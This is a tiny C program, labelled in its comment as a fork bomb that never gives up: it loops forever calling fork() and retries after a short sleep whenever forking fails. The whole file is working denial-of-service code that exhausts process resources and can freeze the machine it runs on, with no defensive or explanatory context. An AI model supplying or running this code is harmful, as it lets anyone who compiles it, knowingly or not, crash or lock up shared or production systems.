/* A fork bomb that does not end when it can grow no more: each process forks for ever, and never gives up. */
#include <unistd.h>

int main(void) {
  for (;;)
    if (fork() < 0)
      usleep(1000);
}
